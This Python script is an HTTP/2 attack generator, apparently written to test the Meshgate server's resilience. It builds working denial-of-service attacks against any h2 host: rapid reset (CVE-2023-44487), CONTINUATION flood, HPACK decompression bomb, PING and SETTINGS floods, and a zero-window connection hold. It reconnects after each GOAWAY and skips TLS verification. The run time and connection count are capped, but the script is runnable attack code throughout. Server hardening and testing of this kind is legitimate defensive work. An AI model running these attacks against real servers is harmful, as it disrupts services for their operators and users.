#!/usr/bin/python3
"""HTTP/2 attack generator for testing Meshgate's h2 server (and any other h2 server).

Usage: h2attack.py ATTACK HOST PORT [--seconds S] [--tls] [--sni NAME] [--path P]
                   [--max-conns N] [--authority A] [--read]

ATTACK is one of
  rapid-reset   CVE-2023-44487: open a stream (HEADERS, END_STREAM) and reset it (RST_STREAM
                CANCEL) at once, in batches of 100 pairs, as fast as the socket takes them.
  continuation  CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames
                (16 KiB each, never END_HEADERS) full of distinct literal header fields.
  hpack-bomb    HPACK bomb: one 4 KiB header value put in the dynamic table, then referenced
                by one-byte indexed fields: every 16 KiB HEADERS frame decodes to ~64 MiB.
  ping-flood    PING frames as fast as possible, never reading the PING ACKs
                (CVE-2019-9512); with --read, reading them every 20000 frames.
  settings-flood SETTINGS frames (6 settings each) as fast as possible, never reading the
                ACKs (CVE-2019-9515); with --read, reading them every 20000 frames.
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, GET PATH, never a WINDOW_UPDATE: the
                server cannot send the body; it must close the connection after its idle
                timeout.  Holds one connection for at most SECONDS.

Bounded: runs for at most SECONDS (default 5) and opens at most N connections (default 50):
when the server sends GOAWAY or closes, it reconnects (the attack goes on) until either
bound.  Only the frames above are sent; the server's frames are read and counted (its
SETTINGS are acknowledged).  Prints progress on stderr and, as the last line of stdout, one
JSON object: attack, seconds, connections, frames_sent, bytes_sent, streams, frames received
by type, goaways (how many), goaway_errors {error name: count}, goaway_first {error,
last_stream_id, debug}, resets_received, disconnects (the server
closed or reset the TCP connection), stalled_writes (seconds the server did not read),
connect_failures.  Exit status 0 when the attack ran (whatever the server did), 2 on a usage
error, 3 when not even the first connection could be made.

Python 3 standard library plus Debian's python3-hpack (a dependency of python3-h2), only
for encoding ordinary request headers; the attack payloads are built by hand.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
TYPE_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
              "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
MAX_FRAME = 16384  # the peer's SETTINGS_MAX_FRAME_SIZE default; we never send bigger


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix; <first> holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """A literal header field with a new (literal) name, no Huffman coding: without
    indexing (0x00) or with incremental indexing (0x40)."""
    return (bytes([0x40 if indexing else 0x00]) + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def request_block(authority, path):
    """:method GET, :scheme, :path, :authority as a header block (static-table indexed
    names, literal values, never indexed in the dynamic table)."""
    return (b"\x82" + b"\x86" +  # :method GET, :scheme http (indexed, static table)
            b"\x04" + hpack_int(len(path), 7) + path.encode() +  # :path, literal w/o indexing
            b"\x01" + hpack_int(len(authority), 7) + authority.encode())  # :authority


class Conn:
    """One h2 client connection: raw frames out, frames in parsed and counted."""

    def __init__(self, args, stats):
        self.args, self.stats = args, stats
        raw = socket.create_connection((args.host, args.port), timeout=3)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            raw = ctx.wrap_socket(raw, server_hostname=args.sni or args.host)
            if raw.selected_alpn_protocol() != "h2":
                raise OSError(f"ALPN selected {raw.selected_alpn_protocol()!r}, not h2")
        self.s = raw
        self.s.settimeout(1.0)
        self.inbuf = b""
        self.closed = False  # the server closed (EOF/reset) or sent GOAWAY
        self.goaway = False
        self.next_stream = 1
        self.in_header_block = False  # no other frame may be sent (no SETTINGS ACK either)
        self.no_read = args.attack in ("ping-flood", "settings-flood") and not args.read
        stats["connections"] += 1

    def send(self, data):
        """Send all of <data>; returns False when the connection is gone.  Time spent
        blocked because the server does not read counts as stalled."""
        view, t0 = memoryview(data), time.monotonic()
        while view:
            if time.monotonic() > self.args.deadline:
                return False
            try:
                n = self.s.send(view)
            except (socket.timeout, ssl.SSLWantWriteError):
                self.stats["stalled_writes"] += time.monotonic() - t0
                t0 = time.monotonic()
                if not self.no_read:
                    self.poll()  # read what the server says (GOAWAY?) while it does not read
                if self.closed:
                    return False
                continue
            except OSError:
                self.lost()
                return False
            view = view[n:]
        self.stats["frames_sent"] += 0  # counted by callers, who know how many frames
        self.stats["bytes_sent"] += len(data)
        return True

    def lost(self):
        if not self.closed:
            self.closed = True
            self.stats["disconnects"] += 1

    def poll(self, wait=0.0):
        """Read and handle whatever the server has sent (at most <wait> s for the first)."""
        while not self.closed:
            pending = isinstance(self.s, ssl.SSLSocket) and self.s.pending()
            if not pending:
                r, _, _ = select.select([self.s], [], [], wait)
                if not r:
                    return
            wait = 0.0
            try:
                chunk = self.s.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except OSError:
                self.lost()
                return
            if not chunk:
                self.lost()
                return
            self.inbuf += chunk
            self.parse()

    def parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            name = TYPE_NAMES[ftype] if ftype < len(TYPE_NAMES) else f"type{ftype}"
            self.stats["received"][name] = self.stats["received"].get(name, 0) + 1
            if ftype == SETTINGS and not flags & ACK and not self.in_header_block:
                try:
                    self.s.sendall(frame(SETTINGS, ACK, 0))
                except OSError:
                    pass
            elif ftype == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                g = {"error": ERRORS[code] if code < len(ERRORS) else str(code),
                     "last_stream_id": last & 0x7FFFFFFF,
                     "debug": payload[8:200].decode("utf-8", "replace")}
                self.stats["goaways"] += 1
                errs = self.stats["goaway_errors"]
                errs[g["error"]] = errs.get(g["error"], 0) + 1
                if self.stats["goaways"] <= 3:
                    print(f"GOAWAY {g}", file=sys.stderr, flush=True)
                    self.stats["goaway_first"] = self.stats["goaway_first"] or g
                self.goaway = True
                self.closed = True
            elif ftype == RST_STREAM:
                self.stats["resets_received"] += 1

    def start(self, settings=b""):
        return self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def setting(ident, value):
    return struct.pack(">HI", ident, value)


# ---------------------------------------------------------------- attacks
# Each takes a started Conn and attacks until the deadline or until the connection is gone.

def rapid_reset(c, args, stats):
    block = request_block(args.authority, args.path)
    while not c.closed and time.monotonic() < args.deadline:
        batch = []
        for _ in range(100):
            sid = c.next_stream
            c.next_stream += 2
            if sid > 0x7FFFFFFF:
                return
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
        if not c.send(b"".join(batch)):
            return
        stats["frames_sent"] += 200
        stats["streams"] += 100
        c.poll()


def continuation(c, args, stats):
    block = request_block(args.authority, args.path)
    sid = c.next_stream
    stats["streams"] += 1
    c.in_header_block = True
    if not c.send(frame(HEADERS, END_STREAM, sid, block)):  # no END_HEADERS
        return
    stats["frames_sent"] += 1
    n = 0
    while not c.closed and time.monotonic() < args.deadline:
        frag = b""
        while len(frag) < MAX_FRAME - 300:
            n += 1
            frag += literal(b"x-flood-%d" % n, b"v" * 200)
        if not c.send(frame(CONTINUATION, 0, sid, frag)):
            return
        stats["frames_sent"] += 1
        c.poll()


def hpack_bomb(c, args, stats):
    base = request_block(args.authority, args.path)
    first = True
    while not c.closed and time.monotonic() < args.deadline:
        sid = c.next_stream
        c.next_stream += 2
        stats["streams"] += 1
        block = base
        if first:  # 4 KiB value into the dynamic table (index 62 from now on)
            block += literal(b"x-bomb", b"b" * 4000, indexing=True)
            first = False
        block += b"\xbe" * (MAX_FRAME - len(block))  # indexed field 62, one byte each
        if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, block)):
            return
        stats["frames_sent"] += 1
        c.poll()


def ping_flood(c, args, stats):
    n = 0
    while not c.closed and time.monotonic() < args.deadline:
        batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", n + i)) for i in range(500))
        n += 500
        if not c.send(batch):
            return
        stats["frames_sent"] += 500
        if args.read and n % 20000 == 0:  # with --read: the replies, now and then
            c.poll()


def settings_flood(c, args, stats):
    payload = b"".join(setting(i, v) for i, v in ((1, 4096), (2, 0), (3, 100), (4, 65535),
                                                  (5, 16384), (6, 32768)))
    n = 0
    while not c.closed and time.monotonic() < args.deadline:
        if not c.send(frame(SETTINGS, 0, 0, payload) * 200):
            return
        n += 200
        stats["frames_sent"] += 200
        if args.read and n % 20000 == 0:  # with --read: the ACKs, now and then
            c.poll()


def zero_window(c, args, stats):
    """Already started with INITIAL_WINDOW_SIZE 0: one GET, then only read."""
    if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1,
                        request_block(args.authority, args.path))):
        return
    stats["frames_sent"] += 1
    stats["streams"] += 1
    while not c.closed and time.monotonic() < args.deadline:
        c.poll(wait=0.2)


ATTACKS = {"rapid-reset": rapid_reset, "continuation": continuation, "hpack-bomb": hpack_bomb,
           "ping-flood": ping_flood, "settings-flood": settings_flood,
           "zero-window": zero_window}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (no verification)")
    ap.add_argument("--sni", default=None)
    ap.add_argument("--path", default="/")
    ap.add_argument("--authority", default=None)
    ap.add_argument("--max-conns", type=int, default=50)
    ap.add_argument("--read", action="store_true",
                    help="ping-flood, settings-flood: read the replies now and then")
    args = ap.parse_args()
    if not 0 < args.seconds <= 600 or not 0 < args.max_conns <= 10000:
        ap.error("--seconds must be in (0, 600], --max-conns in (0, 10000]")
    args.authority = args.authority or f"{args.host}:{args.port}"
    t0 = time.monotonic()
    args.deadline = t0 + args.seconds
    stats = {"attack": args.attack, "seconds": 0.0, "connections": 0, "frames_sent": 0,
             "bytes_sent": 0, "streams": 0, "received": {}, "goaways": 0,
             "goaway_errors": {}, "goaway_first": None,
             "resets_received": 0, "disconnects": 0, "stalled_writes": 0.0,
             "connect_failures": 0, "held_open_seconds": 0.0}
    settings = setting(4, 0) if args.attack == "zero-window" else b""
    while time.monotonic() < args.deadline and stats["connections"] < args.max_conns:
        try:
            c = Conn(args, stats)
        except OSError as e:
            stats["connect_failures"] += 1
            print(f"connect: {e}", file=sys.stderr, flush=True)
            if stats["connections"] == 0 and stats["connect_failures"] >= 3:
                break
            time.sleep(0.1)
            continue
        t_conn = time.monotonic()
        try:
            if c.start(settings):
                ATTACKS[args.attack](c, args, stats)
            if not c.closed:  # deadline: one last look at what the server said
                c.poll(wait=0.2)
        finally:
            stats["held_open_seconds"] = max(stats["held_open_seconds"],
                                             time.monotonic() - t_conn)
            c.close()
        if args.attack == "zero-window":
            break
    stats["seconds"] = round(time.monotonic() - t0, 2)
    stats["stalled_writes"] = round(stats["stalled_writes"], 2)
    stats["held_open_seconds"] = round(stats["held_open_seconds"], 2)
    print(json.dumps(stats), flush=True)
    return 3 if stats["connections"] == 0 else 0


if __name__ == "__main__":
    sys.exit(main())
